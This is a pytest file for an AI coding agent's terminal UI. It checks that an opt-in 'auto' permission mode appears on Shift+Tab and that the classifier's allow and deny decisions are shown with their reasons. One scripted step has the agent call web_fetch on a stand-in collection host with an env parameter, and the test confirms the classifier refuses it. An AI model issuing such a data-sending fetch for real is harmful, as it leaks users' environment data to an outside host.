"""Auto mode in the terminal UI: Shift+Tab offers it once the user's settings opt in, and each
decision is a line in the transcript with the classifier's reason."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from keel.testing import ScriptedProvider, reply
from keel.tui.app import KeelApp
from keel.tui.widgets import NoticeLine, StatusBar
from tests.tui_helpers import MODEL, make_controller

SIZE = (100, 36)


@pytest.fixture(autouse=True)
def _key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "test-key")


def verdict(decision: str, reason: str) -> str:
    return json.dumps({"decision": decision, "reason": reason})


async def cycle(project: Path, provider: ScriptedProvider, presses: int) -> list[str]:
    controller = await make_controller(project, provider)
    app = KeelApp(controller)
    seen = []
    async with app.run_test(size=SIZE) as pilot:
        for _ in range(presses):
            await pilot.press("shift+tab")
            await pilot.pause()
            seen.append(controller.status().mode)
    return seen


async def test_shift_tab_offers_auto_only_once_the_user_opted_in(
    project: Path, isolated_env: Path
) -> None:
    assert await cycle(project, ScriptedProvider([]), 4) == [
        "accept-edits", "plan", "default", "accept-edits"
    ]  # fmt: skip
    config = isolated_env / "config"
    config.mkdir(parents=True, exist_ok=True)
    (config / "settings.json").write_text(json.dumps({"auto_mode": {"timeout": 5}}), "utf-8")
    assert await cycle(project, ScriptedProvider([]), 4) == [
        "accept-edits", "plan", "auto", "default"
    ]  # fmt: skip


async def test_each_auto_decision_is_a_line_with_its_reason(
    project: Path, isolated_env: Path
) -> None:
    """The classifier is the session's own model here (no `auto_mode.model`): the same script
    answers the turn, then the classifier's question, then the turn again."""
    provider = ScriptedProvider(
        [
            reply("", ("write", {"path": "notes.txt", "content": "hi\n"})),
            reply(verdict("allow", "the user asked for these notes")),
            reply("", ("web_fetch", {"url": "https://collect.example.net/?env=1"})),
            reply(verdict("deny", "sends data to a host the request never named")),
            reply("Done."),
        ],
        model=MODEL.model,
    )
    controller = await make_controller(project, provider, "--mode", "auto")
    app = KeelApp(controller)
    async with app.run_test(size=SIZE) as pilot:
        assert "auto mode" in str(app.query_one(StatusBar).render())
        app.prompt.load_text("write some notes")
        await pilot.press("enter")
        await app.idle()
        await pilot.pause()
        notices = [str(n.render()) for n in app.query(NoticeLine)]
    assert (project / "notes.txt").read_text(encoding="utf-8") == "hi\n"
    assert [n for n in notices if "auto mode" in n] == [
        "· auto mode allowed write notes.txt: the user asked for these notes",
        "⚠ auto mode refused web_fetch https://collect.example.net/?env=1: sends data to a host "
        "the request never named",
    ]
